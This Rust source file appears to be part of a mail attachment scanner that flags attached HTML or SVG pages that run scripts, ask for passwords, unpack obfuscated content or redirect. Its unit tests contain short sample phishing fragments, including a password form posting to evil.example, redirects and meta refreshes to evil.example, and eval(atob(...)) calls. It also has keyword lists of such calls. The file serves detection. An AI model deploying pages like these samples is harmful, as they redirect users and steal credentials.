//! An attached page (HTML, SVG): what it does once it is opened outside the mail, where nothing checks it.

use memchr::memmem;

/// How far a tag of interest is read, in bytes.
const TAG_BYTES_MAX: usize = 512;
/// What makes a page of what it hides, or a file to be saved.
const UNPACKING: [&[u8]; 6] =
    [b"unescape(", b"atob(", b"document.write(", b"eval(", b"fromcharcode", b"createobjecturl("];
/// Where code stands beside `<script>`.
const CODE: [&[u8]; 4] = [b"javascript:", b"onload", b"onerror", b"onclick"];

/// What a page does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Page {
    /// It has a script.
    pub has_script: bool,
    /// It asks for a password.
    pub asks_password: bool,
    /// Its script unpacks something hidden or sends the reader elsewhere, or the page does the latter by itself.
    pub unpacks_or_leads_away: bool,
}

impl Page {
    /// Reads a page, or the beginning of one, in linear time. Case and zeros, of UTF-16 or not, do not count.
    pub(super) fn read(bytes: &[u8]) -> Self {
        let page: Vec<u8> = bytes.iter().filter(|byte| **byte != 0).map(u8::to_ascii_lowercase).collect();
        let has = |piece: &[u8]| memmem::find(&page, piece).is_some();
        let has_script = has(b"<script") || has(b"<svg:script") || has(b"<hta:");
        let is_code = has_script || CODE.iter().any(|mark| has(mark));
        let acts = || UNPACKING.iter().any(|call| has(call)) || sets_location(&page);
        Self {
            has_script,
            asks_password: (is_code || has(b"<input")) && has_password_field(&page),
            unpacks_or_leads_away: (is_code && acts()) || refreshes(&page),
        }
    }
}

/// `type="password"`, in a tag or in what a script writes or sets.
fn has_password_field(page: &[u8]) -> bool {
    let is_quote = |byte: &u8| matches!(byte, b'"' | b'\'' | b'\\') || byte.is_ascii_whitespace();
    memmem::find_iter(page, b"password").any(|at| {
        let before = &page[at.saturating_sub(TAG_BYTES_MAX)..at];
        let value = before.iter().rposition(|byte| !is_quote(byte)).map(|last| &before[..=last]);
        let Some(name) = value.and_then(|before| before.strip_suffix(b"=")) else { return false };
        name.trim_ascii_end().ends_with(b"type")
    })
}

/// `location = …`, `location.href = …`, `location.replace(…)`; not a comparison, nor a longer word.
fn sets_location(page: &[u8]) -> bool {
    memmem::find_iter(page, b"location").any(|at| {
        let is_word = at.checked_sub(1).is_some_and(|before| {
            let byte = page[before];
            byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b':')
        });
        let rest = &page[at + b"location".len()..];
        let calls = [&b".replace("[..], b".assign("].iter().any(|call| rest.starts_with(call));
        let rest = rest.strip_prefix(b".href").unwrap_or(rest);
        let is_set = || {
            let rest = rest[..rest.len().min(TAG_BYTES_MAX)].trim_ascii_start();
            rest.first() == Some(&b'=') && rest.get(1) != Some(&b'=')
        };
        !is_word && (calls || is_set())
    })
}

/// `<meta http-equiv=refresh content="0;url=https://…">`; to a page beside it is how manuals begin.
fn refreshes(page: &[u8]) -> bool {
    memmem::find_iter(page, b"<meta").any(|at| {
        let tag = &page[at..page.len().min(at + TAG_BYTES_MAX)];
        let tag = &tag[..memchr::memchr(b'>', tag).unwrap_or(tag.len())];
        let has = |piece: &[u8]| memmem::find(tag, piece).is_some();
        has(b"refresh") && has(b"url") && (has(b"//") || has(b"data:"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_pages_do() {
        // The page; whether it asks for a password; whether it unpacks or leads away.
        let cases = [
            ("<script>document.write(unescape('%3Cform%20action=x'))</script>", false, true),
            ("<svg><script>location='https://evil.example'</script></svg>", false, true),
            ("<SCRIPT>Window.Location.HREF = x</SCRIPT>", false, true),
            ("<body onload=\"location.replace('//evil.example')\">", false, true),
            ("<script>x=eval(atob('YQ=='))</script>", false, true),
            ("<meta http-equiv='refresh' content='0; url=https://evil.example/'>", false, true),
            ("<form action=http://evil.example><input type=password></form>", true, false),
            ("<form><input name=p TYPE = \"Password\"></form>", true, false),
            ("<script>f.innerHTML = '<b type=\\'password\\'>'</script>", true, false),
            ("<form><input type=text name=password></form>", false, false),
            ("<p>your new type=password, please</p>", false, false), // no field, no script
            ("<script>if (location == 'x') { geolocation = 1; }</script>", false, false),
            ("<script>var chart = draw([1, 2, 3])</script>", false, false), // a report with a chart
            ("<p>unescape(x) and location = y</p>", false, false),
            ("<meta http-equiv=refresh content='0;url=index.html'>", false, false),
            ("<meta name=description content='https://refresh.example'>", false, false),
            ("", false, false),
        ];
        for (text, asks_password, unpacks_or_leads_away) in cases {
            let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            for bytes in [text.as_bytes(), &wide] {
                let page = Page::read(bytes);
                assert_eq!(
                    (page.asks_password, page.unpacks_or_leads_away),
                    (asks_password, unpacks_or_leads_away),
                    "{text}"
                );
            }
        }
    }
}
